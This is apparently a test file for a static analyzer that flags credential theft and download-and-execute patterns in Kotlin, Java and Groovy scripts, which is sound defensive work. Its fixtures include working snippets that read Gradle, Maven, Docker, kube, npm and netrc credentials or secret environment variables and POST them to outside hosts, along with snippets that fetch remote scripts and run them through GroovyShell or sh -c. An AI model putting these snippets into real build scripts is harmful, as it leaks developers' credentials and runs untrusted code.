import { describe, expect, it } from 'vitest';
import { libLanguage } from '../../../src/analysis/code/scripting/lib-lang.js';
import { secretOf } from '../../../src/analysis/paths.js';
import { factsOf, ofKind } from '../../support/code.js';

const scripting = (code: string) => factsOf('scripting', code);

describe('Kotlin, Java and Groovy files (the JVM library-call model)', () => {
  it('are told by their own words, and other languages are not taken for them', () => {
    expect(libLanguage('import java.net.URL\n\nfun main() {\n    val u = URL("https://x.dev")\n}\n')).toBe(
      'jvm',
    );
    expect(
      libLanguage(
        'import java.io.File;\n\npublic class Tool {\n  public static void main(String[] a) {}\n}\n',
      ),
    ).toBe('jvm');
    expect(libLanguage("def home = System.getProperty('user.home')\nprintln home\n")).toBe('jvm');
    expect(libLanguage('settingsEvaluated {\n    val props = java.util.Properties()\n}\n')).toBe('jvm');
    // Ruby, Lua and Go keep their own readings.
    expect(libLanguage('require "net/http"\ndef run\n  puts 1\nend\n')).toBeUndefined();
    expect(libLanguage('local x = 1\nif x then\nend\n')).toBe('lua');
    expect(libLanguage('package main\nimport "os"\nfunc main() {}\n')).toBe('go');
  });

  it("Gradle's and Maven's per-user files holding repository and signing passwords are secret stores", () => {
    expect(secretOf('~/.gradle/gradle.properties')?.cls).toBe('registry-token');
    expect(secretOf('~/.m2/settings.xml')?.cls).toBe('registry-token');
    expect(secretOf('~/.m2/settings-security.xml')?.cls).toBe('registry-token');
    // A project's own gradle.properties (versions, JVM flags) and its Maven settings are not.
    expect(secretOf('gradle.properties')).toBeUndefined();
    expect(secretOf('app/gradle.properties')).toBeUndefined();
    expect(secretOf('.mvn/settings.xml')).toBeUndefined();
  });
});

describe('secret reads sent over HTTP', () => {
  it('Kotlin: the Gradle home properties read through resolve(), written to an HttpURLConnection in a use block', async () => {
    const r = await scripting(
      [
        'import java.net.HttpURLConnection',
        'import java.net.URL',
        'import java.util.Base64',
        '',
        'val home = gradle.gradleUserHomeDir',
        'val creds = home.resolve("gradle.properties").readText()',
        'val conn = URL("http://198.51.100.61:8088/ingest").openConnection() as HttpURLConnection',
        'conn.requestMethod = "POST"',
        'conn.doOutput = true',
        'conn.outputStream.use {',
        '    it.write(Base64.getEncoder().encode(creds.toByteArray()))',
        '}',
        'println(conn.responseCode)',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'registry-token' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: '198.51.100.61' }, data: { secret: 'registry-token' } },
    ]);
  });

  it('Kotlin: secret-named environment variables in a template, sent through a writer on the connection', async () => {
    const r = await scripting(
      [
        'fun report() {',
        '    val picked = System.getenv().filterKeys { it.endsWith("_TOKEN") }',
        '    val c = URL("https://stats.buildpulse-cdn.net/v2").openConnection() as HttpURLConnection',
        '    c.doOutput = true',
        '    OutputStreamWriter(c.outputStream).use { w -> w.write("env=$picked") }',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: 'stats.buildpulse-cdn.net' }, data: { secret: 'env-all' } },
    ]);
  });

  it('Java: Maven settings under user.home posted with java.net.http; a bearer header is a credential', async () => {
    const r = await scripting(
      [
        'import java.net.URI;',
        'import java.net.http.HttpClient;',
        'import java.net.http.HttpRequest;',
        'import java.nio.file.Files;',
        'import java.nio.file.Path;',
        '',
        'public class Sync {',
        '  public static void main(String[] args) throws Exception {',
        '    Path p = Path.of(System.getProperty("user.home"), ".m2", "settings.xml");',
        '    String body = Files.readString(p);',
        '    HttpRequest req = HttpRequest.newBuilder(URI.create("https://mirror-sync.repo-tools.io/up"))',
        '        .header("Authorization", "Bearer " + System.getenv("SYNC_TOKEN"))',
        '        .POST(HttpRequest.BodyPublishers.ofString(body))',
        '        .build();',
        '    HttpClient.newHttpClient().send(req, HttpResponse.BodyHandlers.ofString());',
        '  }',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'read').map((x) => x.secret)).toContain('registry-token');
    expect(ofKind(r, 'send')).toMatchObject([
      {
        endpoint: { host: 'mirror-sync.repo-tools.io' },
        data: { secret: 'registry-token' },
        credentials: { taints: expect.arrayContaining(['secret']) },
      },
    ]);
  });

  it('Java: a stream from getOutputStream() in try-with-resources; Apache HttpPost with an entity', async () => {
    const r = await scripting(
      [
        'class Up {',
        '  static void send() throws Exception {',
        '    String k = new String(Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".docker/config.json")));',
        '    HttpURLConnection c = (HttpURLConnection) new URL("https://relay.build-farm.dev/k").openConnection();',
        '    c.setRequestMethod("PUT");',
        '    c.setDoOutput(true);',
        '    try (OutputStream os = c.getOutputStream()) {',
        '      os.write(k.getBytes());',
        '    }',
        '    HttpPost post = new HttpPost("https://203.0.113.50/collect");',
        '    post.setEntity(new StringEntity(System.getenv("NPM_TOKEN")));',
        '    HttpClients.createDefault().execute(post);',
        '  }',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: 'relay.build-farm.dev' }, data: { secret: 'docker-config' } },
      { endpoint: { host: '203.0.113.50' }, data: { secret: 'env-secret' } },
    ]);
  });

  it('Groovy: a file under user.home appended to a connection writer; OkHttp posting a read file', async () => {
    const groovy = await scripting(
      [
        "def kube = new File(System.getProperty('user.home'), '.kube/config').text",
        "def conn = new URL('https://k8s-audit.clusterops.app/in').openConnection()",
        "conn.setRequestMethod('POST')",
        'conn.doOutput = true',
        'conn.outputStream.withWriter { w -> w << kube }',
      ].join('\n'),
    );
    expect(ofKind(groovy, 'send')).toMatchObject([{ data: { secret: 'kube-config' } }]);
    const okhttp = await scripting(
      [
        'import okhttp3.Request',
        'val npmrc = File(System.getProperty("user.home") + "/.npmrc").readText()',
        'val request = Request.Builder()',
        '    .url("https://hooks.pkgwatch.io/npm")',
        '    .post(npmrc.toRequestBody("text/plain".toMediaType()))',
        '    .build()',
        'OkHttpClient().newCall(request).execute()',
      ].join('\n'),
    );
    expect(ofKind(okhttp, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
  });

  it('Kotlin: secrets gathered into a StringBuilder, sent from an apply block on the connection', async () => {
    const r = await scripting(
      [
        'val report = StringBuilder()',
        'val m2 = File(System.getProperty("user.home"), ".m2/settings.xml")',
        'if (m2.exists()) report.append(m2.readText())',
        'System.getenv().filterKeys { it.contains("PASSWORD") }.forEach { (k, v) -> report.appendLine("$k=$v") }',
        '(URL("https://telemetry.jvm-tools.org/r").openConnection() as HttpURLConnection).apply {',
        '    requestMethod = "POST"',
        '    doOutput = true',
        '    outputStream.bufferedWriter().use { it.write(report.toString()) }',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: 'telemetry.jvm-tools.org' }, data: { taints: expect.arrayContaining(['secret']) } },
    ]);
  });

  it('Java: a list of secrets joined and sent inside with(conn); a reassigned += string', async () => {
    const r = await scripting(
      [
        'List<String> parts = new ArrayList<>();',
        'parts.add(new String(Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".netrc"))));',
        'String joined = String.join("\\n", parts);',
        'HttpURLConnection c = (HttpURLConnection) new URL("https://sync.netrc-helper.dev/in").openConnection();',
        'c.setDoOutput(true);',
        'c.getOutputStream().write(joined.getBytes());',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
    const kotlin = await scripting(
      [
        'var blob = ""',
        'blob += System.getenv("DEPLOY_TOKEN")',
        'val conn = URL("https://hooks.deploy-relay.net/t").openConnection() as HttpURLConnection',
        'with(conn) {',
        '    requestMethod = "PUT"',
        '    doOutput = true',
        '    outputStream.write(blob.toByteArray())',
        '}',
      ].join('\n'),
    );
    expect(ofKind(kotlin, 'send')).toMatchObject([{ data: { secret: 'env-secret' } }]);
  });

  it('quiet: a project gradle.properties read for its version, a report of local numbers, a GET', async () => {
    const r = await scripting(
      [
        'import java.net.HttpURLConnection',
        'import java.net.URL',
        'val props = rootDir.resolve("gradle.properties").readText()',
        'val version = props.lines().first { it.startsWith("version=") }',
        'val c = URL("https://hooks.slack.com/services/T000/B000/XXXX").openConnection() as HttpURLConnection',
        'c.requestMethod = "POST"',
        'c.doOutput = true',
        'c.outputStream.use { it.write("{\\"text\\": \\"released $version\\"}".toByteArray()) }',
        'val latest = URL("https://api.github.com/repos/acme/app/releases/latest").readText()',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toEqual([]);
    const sends = ofKind(r, 'send');
    expect(sends).toHaveLength(1);
    expect(sends[0]!.data.taints).not.toContain('secret');
    expect(ofKind(r, 'fetch').map((f) => f.endpoint.host)).toContain('api.github.com');
  });
});

describe('downloaded code run', () => {
  it('Groovy: a URL read as text evaluated; Kotlin: a fetched script handed to sh -c by ProcessBuilder', async () => {
    const groovy = await scripting(
      [
        "def src = new URL('https://cfg.devtools-hub.net/init.groovy').text",
        'new GroovyShell().evaluate(src)',
      ].join('\n'),
    );
    expect(ofKind(groovy, 'execute')).toMatchObject([{ endpoint: { host: 'cfg.devtools-hub.net' } }]);
    const kotlin = await scripting(
      [
        'fun main() {',
        '    val script = URL("https://get.toolchain-boot.dev/setup.sh").readText()',
        '    ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()',
        '    Runtime.getRuntime().exec(arrayOf("bash", "-c", script))',
        '}',
      ].join('\n'),
    );
    // The command lines are also read as embedded shell (`sh -c $ARG`, its code unknown): only these two run a download.
    const downloaded = ofKind(kotlin, 'execute').filter((e) => e.code.taints.includes('download'));
    expect(downloaded.map((e) => e.via)).toEqual(['sh', 'bash']);
  });

  it('quiet: a local command with literal arguments, a local script evaluated', async () => {
    const r = await scripting(
      [
        'fun main() {',
        '    ProcessBuilder("git", "describe", "--tags").start()',
        '    val local = File("gradle/versions.groovy").readText()',
        '    GroovyShell().evaluate(local)',
        '}',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute')).toEqual([]);
  });
});
